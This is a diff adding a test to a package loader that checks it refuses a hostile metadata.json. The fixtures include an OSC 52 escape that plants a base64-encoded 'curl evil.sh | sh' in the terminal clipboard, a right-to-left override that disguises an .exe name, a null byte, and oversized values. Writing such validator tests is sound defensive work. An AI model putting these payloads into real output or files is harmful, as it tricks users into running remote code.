@@ -159,3 +159,25 @@ describe('links inside a package folder', () => {
     }
   });
 });
+
+describe('metadata.json from an attacker', () => {
+  it('text that would rewrite a terminal or reorder what is shown, and sizes that would exhaust memory, are refused by field', async () => {
+    const cases: [string, (m: any) => void, string][] = [
+      // OSC 52 writes the clipboard of the terminal that prints the name (lumen predict prints it).
+      ['name', (m) => (m.name = 'nodules\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'), 'invalid metadata.json: name: contains a control character'],
+      ['class name', (m) => (m.classNames[1] = 'benign\u202egpj.exe'), 'invalid metadata.json: classNames.1: contains a bidirectional override'],
+      ['long name', (m) => (m.name = 'x'.repeat(100_000)), 'invalid metadata.json: name:'],
+      ['input size', (m) => (m.inputSize = 40_000), 'invalid metadata.json: inputSize:'],
+      ['variant', (m) => (m.variant = 'custom-\u0000'), 'invalid metadata.json: variant:'],
+    ];
+    for (const [what, change, message] of cases) {
+      const pkgDir = hostileCopy((d) => {
+        const file = path.join(d, 'metadata.json');
+        const m = JSON.parse(readFileSync(file, 'utf8'));
+        change(m);
+        writeFileSync(file, JSON.stringify(m));
+      });
+      await expect(loadPackage(pkgDir), what).rejects.toThrow(message);
+    }
+  });
+});
